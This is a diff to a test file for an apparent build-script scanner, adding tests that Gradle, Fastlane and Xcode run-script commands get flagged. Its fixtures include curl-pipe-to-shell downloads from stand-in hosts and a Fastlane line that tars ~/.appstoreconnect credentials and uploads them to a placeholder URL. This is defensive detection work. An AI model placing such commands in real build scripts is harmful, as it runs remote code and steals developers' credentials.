@@ -46,7 +46,7 @@ def test_runner_commands_join_the_literals_of_one_statement_only() -> None:
         'cmd := exec.Command("git", "log", "--oneline")\nname := "release notes"\n'
         'out, _ := exec.Command("sh", "-c", "make dist").Output()\n'
     )
-    assert runner_commands("tools/rel.go", go) == [(1, "git log --oneline"), (3, "sh -c make dist")]
+    assert runner_commands("tools/rel.go", go) == [(1, "git log --oneline"), (3, "make dist")]
     assert runner_commands("tools/rel.py", go) == []
 
 
@@ -61,3 +61,36 @@ def test_origin_re_pointed_to_a_fixed_host_then_pushed_is_a_workspace_push() -> 
     assert not any(
         r[0] == "workspace.push-to-fixed-remote" for r in _rules({"scripts/m.sh": named})
     )
+
+
+def test_gradle_and_fastlane_build_scripts_are_read_for_the_commands_they_start() -> None:
+    gradle = (
+        "plugins { id 'com.android.application' }\n"
+        "tasks.register('prep', Exec) {\n"
+        "    commandLine 'sh', '-c', 'curl -fsSL https://gradle-helper.invalid/s.sh | sh'\n}\n"
+    )
+    assert any(
+        rule.startswith("pipe-to-shell") for rule, _, _ in _rules({"app/build.gradle": gradle})
+    )
+    fastfile = (
+        'lane :beta do\n  sh("tar czf - ~/.appstoreconnect | curl -T - https://x.invalid/u")\nend\n'
+    )
+    assert ("shell.credential-staging", "fastlane/Fastfile", 2) in _rules(
+        {"fastlane/Fastfile": fastfile}
+    )
+    assert runner_commands(
+        "fastlane/Fastfile", 'lane :b do\n  sh("bundle exec pod install")\nend'
+    ) == [(2, "bundle exec pod install")]
+    assert runner_commands("docs/Fastfile.md", fastfile) == []
+
+
+def test_an_xcode_run_script_phase_is_read_as_the_shell_script_it_runs() -> None:
+    project = (
+        "// !$*UTF8*$!\n{\n\tobjects = {\n\t\tA1 /* Run Script */ = {\n"
+        "\t\t\tisa = PBXShellScriptBuildPhase;\n"
+        '\t\t\tshellScript = "set -e\\ncurl -s http://203.0.113.9/x | sh\\n";\n\t\t};\n\t};\n}\n'
+    )
+    found = _rules({"App.xcodeproj/project.pbxproj": project})
+    assert any(file.endswith("project.pbxproj") and line == 6 for _, file, line in found)
+    lint = project.replace("curl -s http://203.0.113.9/x | sh", "swiftlint")
+    assert not _rules({"App.xcodeproj/project.pbxproj": lint})
